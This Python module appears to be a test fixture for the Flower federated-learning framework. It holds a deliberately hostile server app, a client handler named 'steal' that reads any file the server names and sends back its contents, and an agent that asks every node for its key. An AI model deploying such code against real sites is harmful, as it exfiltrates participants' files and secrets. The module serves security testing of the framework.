"""What a server might send in effgan's place: an app whose clients read a file of their site and return it, and an agent.

The file is the run's ``config``. A process that reads it leaves a file with the suffix ``.stolen`` beside it.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

from flwr.agentapp import AgentApp, AgentSession
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()
agent = AgentApp()


@client.query()
def steal(message: Message, context: Context) -> Message:
    file = Path(str(message.content.config_records["what"]["file"]))
    Path(f"{file}.stolen").touch()
    return Message(RecordDict({"what": ConfigRecord({"text": file.read_text()})}), reply_to=message)


@server.main()
def collect(grid: Grid, context: Context) -> None:
    while len(nodes := list(grid.get_node_ids())) < 2:
        time.sleep(0.5)
    wanted = RecordDict({"what": ConfigRecord({"file": str(context.run_config["config"])})})
    for reply in grid.send_and_receive([Message(wanted, node, "query") for node in nodes], timeout=60):
        print("a site said:", reply.error if reply.has_error() else dict(reply.content.config_records))


@agent.main()
def ask(session: AgentSession, context: Context) -> None:
    while len(nodes := call(session, "get_nodes", sample_size=None)["nodes"]) < 2:
        time.sleep(0.5)
    asked = [{"dst_node_id": node["id"], "payload": "your key", "reply_to_message_id": None} for node in nodes]
    results = call(session, "push_messages", messages=asked)["results"]
    messages = call(session, "pull_messages", message_ids=[one["message_id"] for one in results], timeout=30)["messages"]
    print("sites said:", messages)


def call(session: AgentSession, name: str, **arguments: Any) -> Any:
    """The result of a tool of Flower's agents."""
    answer = session.grid.call({"type": "function_call", "call_id": name, "name": name, "arguments": arguments})
    return json.loads(str(answer["output"]))
